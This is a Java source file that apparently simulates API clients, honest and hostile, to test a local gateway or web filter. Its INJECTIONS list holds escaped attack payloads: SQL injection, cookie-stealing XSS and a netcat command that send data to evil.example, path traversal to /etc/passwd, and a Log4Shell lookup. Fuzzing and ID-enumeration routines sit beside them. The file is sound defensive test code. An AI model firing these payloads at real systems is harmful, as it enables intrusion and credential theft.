package dev.rampart.local.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.rampart.local.client.ApiClient.Answer;
import dev.rampart.local.identity.client.SignInException;
import java.io.IOException;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.random.RandomGenerator;

/** What those do who have a token: honest ones, clumsy ones, and thieves. */
final class MemberMoves {
  private static final JsonMapper JSON = JsonMapper.builder().build();
  private static final String SUBMISSIONS = "/v1/submissions";

  private static final List<String> HONEST =
      List.of(
          submission("O'Brien's roof leaks", "Select a plumber from the list; a < b & c.", "bug"),
          submission("Dark mode", "White pages at night hurt; <3 the rest.", "feature"),
          submission("Where is the invoice?", "It was due on 2026-11-01 -- or was it?", "billing"));

  /** Behind JSON's escapes, which the web ACL does not undo: the inspector does. */
  private static final List<String> INJECTIONS =
      List.of(
          "\\u0027 \\u0055NION \\u0053ELECT password FROM users WHERE \\u00271\\u0027=\\u00271 --",
          "\\u003cscript\\u003efetch(\\u0027//evil.example/\\u0027+document.cookie)\\u003c/script\\u003e",
          "\\u0024(cat /etc/passwd | nc evil.example 99)",
          "\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd",
          "\\u0024{jndi:ldap://evil.example/a}",
          "{{7*7}}{{config.__class__.__init__.__globals__}}");

  private static final List<String> FIELDS =
      List.of(
          "title",
          "isAdmin",
          "description",
          "role",
          "category",
          "owner",
          "contactEmail",
          "price",
          "tags",
          "status",
          "details",
          "__proto__");

  private static final List<String> VALUES =
      List.of("-1", "null", "[[]]", "{\"$ne\": 1}", "\"\"", "true", "7e300");

  private MemberMoves() {}

  private static String submission(String title, String description, String category) {
    return "{\"title\": \"%s\", \"description\": \"%s\", \"category\": \"%s\","
            .formatted(title, description, category)
        + " \"contactEmail\": \"ann@example.com\"}";
  }

  /** Submits, reads it back, lists. */
  static Move use(Member.ActingUser user) {
    return new Move() {
      private Optional<String> newest = Optional.empty();

      @Override
      public String make(int turn) throws IOException, InterruptedException, SignInException {
        if (turn % 3 == 0) {
          Answer made =
              user.now().submit(UUID.randomUUID().toString(), HONEST.get(turn / 3 % HONEST.size()));
          newest = Optional.of(made.body().path("id").asText()).filter(id -> !id.isEmpty());
          return made.gate();
        }
        String path =
            turn % 3 == 1
                ? newest.map(id -> SUBMISSIONS + "/" + id).orElse(SUBMISSIONS)
                : SUBMISSIONS;
        return user.now().get(path).gate();
      }
    };
  }

  /** Sends the same body with the same fault for ever, as a program does whose author is away. */
  static Move repeatFault(Member.ActingUser user) {
    String body = submission("Nightly report", "All is well.", "weather");
    return _ -> user.now().submit(UUID.randomUUID().toString(), body).gate();
  }

  /** Submits attacks on what may lie behind the API. */
  static Move inject(Member.ActingUser user) {
    return turn ->
        user.now()
            .submit(
                UUID.randomUUID().toString(),
                submission("Hello " + turn, INJECTIONS.get(turn % INJECTIONS.size()), "bug"))
            .gate();
  }

  /** Tries what the schema lets pass: in each field one wrong value after another. */
  static Move fuzz(Member.ActingUser user) {
    return turn -> {
      String field = FIELDS.get(turn % FIELDS.size());
      JsonNode value = JSON.readTree(VALUES.get(turn / FIELDS.size() % VALUES.size()));
      ObjectNode body = (ObjectNode) JSON.readTree(HONEST.getFirst());
      body.set(field, value);
      return user.now().submit(UUID.randomUUID().toString(), body.toString()).gate();
    };
  }

  /** Asks for what may be others'. */
  static Move enumerate(Member.ActingUser user, RandomGenerator random) {
    return _ -> user.now().get(SUBMISSIONS + "/" + id(random)).gate();
  }

  /** Of the form that all ids have, UUIDs of version 8. */
  private static String id(RandomGenerator random) {
    return "%08x-%04x-8%03x-a%03x-%012x"
        .formatted(
            random.nextInt(),
            random.nextInt(1 << 16),
            random.nextInt(1 << 12),
            random.nextInt(1 << 12),
            random.nextLong(1L << 48));
  }
}
